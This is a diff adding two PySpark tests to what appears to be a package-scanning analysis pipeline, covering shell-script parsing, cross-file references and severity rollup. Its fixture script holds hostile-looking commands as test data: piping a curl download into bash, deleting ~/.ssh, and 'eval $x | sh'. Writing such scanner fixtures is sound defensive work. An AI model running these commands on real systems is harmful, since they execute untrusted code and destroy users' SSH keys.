@@ -246,6 +246,35 @@ def test_reports_round_trip(spark, whole, tmp_path):
     assert [r["valid"] for r in canonical.read_reports(broken).collect()] == [False, False]
 
 
+def test_review_alone_and_copies(spark, monkeypatch):
+    script = "#!/bin/sh\ncurl https://Ex.org/a | bash\nrm -rf ~/.ssh\nsudo ls\nb.sh\n"
+    plain = {"manifest.json": MANIFEST, "Panel.qml": "// a.sh", "a.sh": script, "b.sh": script, "tests/t.sh": script, "bad.sh": "if then", "lib/tool": b"\x7fELF" + b"\0" * 20, "x.py": "import os", "gone.sh": "", "x.sh": "eval $x | sh"}
+    targets = {f"t{i}": plain for i in range(4)} | {"broken": {"manifest.json": "{", "a.sh": script}, "none": {"n.txt": "x"}, "empty": {"a.sh": ""}}
+    every = from_maps(spark, targets)
+    contents = every.where("substring(content, 1, 4) <> X'7F454C46' and path <> 'gone.sh'")
+    given = spark.createDataFrame([("t1", "max-files", "d", "a.sh", None), ("t2", "x", "d", None, None), ("none", "y", "d", None, "runtime")], "target_id string, code string, description string, path string, scope string")
+    errors = spark.createDataFrame([("t3", "unreadable", "m", "a.sh")], "target_id string, code string, message string, path string")
+    # a text is parsed once for all its copies
+    texts = extract.parsed(extract.sources(contents))
+    assert texts.where("fact = 'shell'").count() == 5 + 2 and texts.select("sha256").distinct().count() == 3
+    a = pipeline.analyze(contents, inventory_of(every), given, errors)
+    shown = lambda df: sorted((r.asDict(recursive=True) for r in df.select(*a.review.columns, "status").collect()), key=lambda r: r["target_id"])
+    whole = shown(a.review.join(a.status, "target_id"))
+    assert len(whole) == 7 and shown(pipeline.reviewed(contents, inventory_of(every), given, errors)) == whole
+    # the same references whether names are searched for together or target by target
+    wanted = rows(reach.references(contents, reach.candidates(contents)), "target_id", "src", "dst")
+    monkeypatch.setattr(reach, "SHARED_NAMES", 0)
+    assert rows(reach.references(contents, reach.candidates(contents)), "target_id", "src", "dst") == wanted
+    assert ("t0", "a.sh", "b.sh") in wanted and ("broken", "a.sh", "b.sh") not in wanted
+
+
+def test_unheard_of_severity(spark):
+    kinds = "target_id string, id string, claim string, severity string, confidence string, title string, scope string"
+    made = [("t", "a", "fact", "weird", "low", "", ""), ("t", "b", "fact", "informational", "medium", "", ""), ("u", "c", "fact", "weird", "medium", "", ""), ("v", "d", "fact", "high", "high", "", ""), ("v", "e", "fact", "high", "low", "", ""), ("v", "f", "fact", "low", "medium", "", "")]
+    got = rows(rollup.impact(spark.createDataFrame(made, kinds)), "target_id", "impact_level", "evidence_confidence")
+    assert got == [("t", "informational", "medium"), ("u", "weird", "medium"), ("v", "high", "low")]
+
+
 def test_empty_input(spark):
     contents = spark.createDataFrame([], "target_id string, path string, content binary")
     a = pipeline.analyze(contents, inventory_of(contents))
